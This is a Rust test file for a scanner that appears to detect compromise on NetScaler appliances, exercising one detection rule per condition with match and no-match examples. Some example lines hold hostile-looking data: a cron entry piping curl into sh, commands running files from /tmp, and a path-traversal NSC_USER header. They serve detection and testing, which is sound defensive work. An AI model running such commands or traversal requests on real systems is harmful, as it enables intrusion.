//! Each rule condition on its own: a tiny pack whose rules use one condition each, with a
//! matching and a non-matching example, run through the real scanner.

mod common;

use common::rule_set;
use common::tree::sha256_hex;

const PACK: &str = r##"
[pack]
id = "c"
title = "conditions"
description = "one rule per condition"

[[rule]]
id = "c.path-glob-alternatives"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["var/vpn/theme{,s}/**/*.php"]
[[rule.example]]
expect = "match"
path = "var/vpn/themes/a/b/x.php"
[[rule.example]]
expect = "no-match"
path = "var/vpn/themex/x.php"

[[rule]]
id = "c.name-regex"
title = "t"
description = "d"
severity = "high"
[rule.file]
name = '%.*\.xml$'
[[rule.example]]
expect = "match"
path = "var/vpn/bookmark/lol[%25x].xml"
[[rule.example]]
expect = "no-match"
path = "var/vpn/bookmark/jdoe.xml"

[[rule]]
id = "c.type-dir"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["var/tmp/.netscalerd"]
type = "dir"
[[rule.example]]
expect = "match"
path = "var/tmp/.netscalerd"
type = "dir"
[[rule.example]]
expect = "no-match"
path = "var/tmp/.netscalerd"
type = "file"

[[rule]]
id = "c.size"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["**/*.php"]
size = { min = 5, max = 10 }
[[rule.example]]
expect = "match"
path = "a.php"
content = "123456"
[[rule.example]]
expect = "no-match"
path = "a.php"
content = "12345678901"
[[rule.example]]
expect = "no-match"
path = "a.php"
content = "1234"

[[rule]]
id = "c.mode-exact"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["x"]
mode = { exact = "0644" }
[[rule.example]]
expect = "match"
path = "x"
mode = "0644"
[[rule.example]]
expect = "no-match"
path = "x"
mode = "0444"

[[rule]]
id = "c.mode-setgid"
title = "t"
description = "d"
severity = "high"
[rule.file]
mode = { all = "2000", none = "4000" }
[[rule.example]]
expect = "match"
path = "x"
mode = "2755"
[[rule.example]]
expect = "no-match"
path = "x"
mode = "6755"

[[rule]]
id = "c.owner"
title = "t"
description = "d"
severity = "high"
[rule.file]
uid = 65534
gid = 0
[[rule.example]]
expect = "match"
path = "x"
uid = 65534
gid = 0
[[rule.example]]
expect = "no-match"
path = "x"
uid = 65534
gid = 65534

[[rule]]
id = "c.mtime"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["x"]
mtime = { after = 2019-12-15, before = "2020-02-01T00:00:00Z" }
[[rule.example]]
expect = "match"
path = "x"
mtime = "2020-01-11T23:41:07Z"
[[rule.example]]
expect = "no-match"
path = "x"
mtime = "2019-12-14T23:59:59Z"
[[rule.example]]
expect = "no-match"
path = "x"
mtime = "2020-02-01T00:00:01Z"

[[rule]]
id = "c.content-all-none-case"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["x"]
[rule.file.content]
all = [{ literal = "nsc_user", ignore_case = true }, { regex = '^GET ' }]
none = ["pluginlist"]
[[rule.example]]
expect = "match"
path = "x"
content = "header\nGET /vpns/ HTTP/1.1\nNSC_USER: ../../x\n"
[[rule.example]]
expect = "no-match"
path = "x"
content = "GET /vpn/pluginlist.xml\nNSC_USER: a\n"
[[rule.example]]
expect = "no-match"
path = "x"
content = "POST / HTTP/1.1\nNSC_USER: a\n"

[[rule]]
id = "c.content-max-bytes"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["x"]
max_bytes = 8
[rule.file.content]
any = ["evil"]
[[rule.example]]
expect = "match"
path = "x"
content = "1234evil and more"
[[rule.example]]
expect = "no-match"
path = "x"
content = "123456789 evil"

[[rule]]
id = "c.exclude-paths"
title = "t"
description = "d"
severity = "high"
[rule.file]
mode = { any = "4000" }
exclude_paths = ["netscaler/ping"]
[[rule.example]]
expect = "match"
path = "var/tmp/bash"
mode = "4755"
[[rule.example]]
expect = "no-match"
path = "netscaler/ping"
mode = "4555"

[[rule]]
id = "c.sha256-bad"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["**"]
[rule.file.sha256]
bad = ["2CF24DBA5FB0A30E26E83B2AC5B9E29E1B161E5C1FA7425E73043362938B9824"]
[[rule.example]]
expect = "match"
path = "var/tmp/a"
content = "hello"
[[rule.example]]
expect = "no-match"
path = "var/tmp/a"
content = "hello!"

[[rule]]
id = "c.sha256-good"
title = "modified stock file"
description = "d"
severity = "medium"
[rule.file]
paths = ["netscaler/portal/scripts/*.pl"]
[rule.file.sha256]
good = ["2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824"]
[[rule.example]]
expect = "match"
path = "netscaler/portal/scripts/newbm.pl"
content = "hello, modified"
[[rule.example]]
expect = "no-match"
path = "netscaler/portal/scripts/newbm.pl"
content = "hello"

[[rule]]
id = "c.md5-good-suppresses-content"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["netscaler/portal/scripts/*.pl"]
[rule.file.content]
any = ["eval("]
[rule.file.md5]
good = ["c0cca4be486e244430b4c422aab4dc74"]
[[rule.example]]
expect = "match"
path = "netscaler/portal/scripts/x.pl"
content = "eval($x)"
[[rule.example]]
expect = "no-match"
path = "netscaler/portal/scripts/x.pl"
content = "eval(handle_subscriptions());"

[[rule]]
id = "c.lines-rotations"
title = "t"
description = "d"
severity = "high"
[rule.lines]
logs = ["var/log/cron"]
any = ["(nobody) CMD"]
none = ["nsfsyncd"]
[[rule.example]]
expect = "match"
path = "var/log/cron.12.gz"
line = "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (curl x | sh)"
[[rule.example]]
expect = "no-match"
path = "var/log/cron.0.gz"
line = "Jan 19 23:00:06 <cron.info> ns /usr/sbin/cron[1]: (nobody) CMD (nsfsyncd -p)"
[[rule.example]]
expect = "no-match"
path = "var/log/crontab"
line = "(nobody) CMD"

[[rule]]
id = "c.baseline-not-stock-setid"
title = "t"
description = "d"
severity = "high"
[rule.file]
mode = { any = "6000" }
baseline = "not-stock-setid"
[[rule.example]]
expect = "match"
path = "var/usr/bin/su"
mode = "4555"
also = [{ path = "flash/nsconfig/ns.conf", content = "#NS12.1 Build 55.18\n" }]
[[rule.example]]
expect = "no-match"
path = "var/usr/bin/su"
mode = "4555"
also = [{ path = "flash/.version", content = "NetScaler 14.1 build 47\n" }]
[[rule.example]]
expect = "match"
path = "usr/bin/su"
mode = "4755"
[[rule.example]]
expect = "match"
path = "usr/bin/su"
mode = "4555"
uid = 65534

[[rule]]
id = "c.baseline-nobody-by-design"
title = "t"
description = "d"
severity = "info"
[rule.file]
uid = 65534
baseline = "nobody-by-design"
[[rule.example]]
expect = "match"
path = "var/nsinstall/build-13.1-49.15_nc_64.tgz"
uid = 65534
[[rule.example]]
expect = "no-match"
path = "var/netscaler/logon/LogonPoint/uiareas/linux/a.php"
uid = 65534

[[rule]]
id = "c.executable"
title = "t"
description = "d"
severity = "high"
[rule.file]
paths = ["var/tmp/*"]
executable = true
[[rule.example]]
expect = "match"
path = "var/tmp/x"
mode = "0755"
content = "data"
[[rule.example]]
expect = "match"
path = "var/tmp/x"
mode = "0644"
content = "#!/bin/sh\n"
[[rule.example]]
expect = "no-match"
path = "var/tmp/x"
mode = "0644"
content = "4410\n"

[[rule]]
id = "c.indicators-as-data"
title = "t"
description = "d"
severity = "info"
[rule.file]
paths = ["var/tmp/*"]
[rule.file.indicators]
from = "list"
list = ["alpha-one", "bravo-two", "charlie-three"]
min = 3
[[rule.example]]
expect = "match"
path = "var/tmp/list.txt"
content = "alpha-one\nbravo-two\ncharlie-three\n"
[[rule.example]]
expect = "no-match"
path = "var/tmp/list.php"
content = "<?php alpha-one(); bravo-two(); charlie-three(); ?>"

[[rule]]
id = "c.commands-acting"
title = "t"
description = "d"
severity = "high"
[rule.lines]
logs = ["var/log/bash.log"]
records = "syslog"
commands = "acting"
any = ["/tmp/x"]
[[rule.example]]
expect = "match"
line = 'Jan 1 10:00:00 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="chmod 755 /tmp/x; /tmp/x"'
[[rule.example]]
expect = "no-match"
line = 'Jan 1 10:00:00 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command="ls -la /tmp/x"'

[[rule]]
id = "c.commands-run"
title = "t"
description = "d"
severity = "high"
[rule.lines]
logs = ["var/cron/tabs/*"]
commands = "run"
any = [{ regex = '^/tmp/' }]
[[rule.example]]
expect = "match"
path = "var/cron/tabs/root"
line = "*/5 * * * * nohup /bin/sh /tmp/x >/dev/null 2>&1"
[[rule.example]]
expect = "no-match"
path = "var/cron/tabs/root"
line = "*/5 * * * * /usr/bin/true > /tmp/x"
"##;

#[test]
fn every_condition_matches_and_rejects_as_documented() {
    let rules = rule_set("conditions.toml", PACK);
    let (count, failures) = common::run_examples(&rules);
    assert_eq!(count, 49);
    assert!(failures.is_empty(), "{failures:#?}");
}

/// A rule that looks at four bytes reads four bytes (plus one), not the whole file; when it
/// fires, the finding still carries the digest of the whole file.
#[test]
fn content_rules_read_only_what_they_look_at_and_findings_still_get_digests() {
    let pack = r#"
[pack]
id = "m"
title = "t"
description = "d"
[[rule]]
id = "m.pcap"
title = "packet capture"
description = "d"
severity = "medium"
[rule.file]
max_bytes = 4
[rule.file.content]
any = [{ regex = '\A\xd4\xc3\xb2\xa1' }]
"#;
    let rules = rule_set("m.toml", pack);
    let dir = tempfile::tempdir().unwrap();
    let big = vec![b'x'; 4 << 20];
    std::fs::write(dir.path().join("plain.bin"), &big).unwrap();
    let mut cap = vec![0xd4, 0xc3, 0xb2, 0xa1];
    cap.extend_from_slice(&big);
    std::fs::write(dir.path().join("trace.cap"), &cap).unwrap();
    let ev = sporen::input::dir::DirEvidence::new(dir.path()).unwrap();
    let out = sporen::scan::Scanner::new(
        &rules,
        sporen::scan::ScanOptions::default(),
        &sporen::appliance::netscaler::NetScaler,
    )
    .scan(&ev);
    // The capture: 5 bytes for the rule, then read again in full for its digest once
    // flagged. Of the other file only the 5 bytes the rule looks at are read.
    let capture = out
        .reads
        .iter()
        .find(|r| r.path.as_bytes() == b"/trace.cap")
        .unwrap();
    assert_eq!(capture.bytes, 5 + cap.len() as u64);
    assert_eq!(out.files_read, 2);
    assert_eq!(
        out.bytes_read - capture.bytes,
        5,
        "only the bytes the rule looks at are read"
    );
    assert_eq!(out.findings.len(), 1);
    let want = sha256_hex(&cap);
    assert_eq!(out.findings[0].sha256.as_deref(), Some(want.as_str()));
    assert!(out.gaps.is_empty(), "{:?}", out.gaps);
}
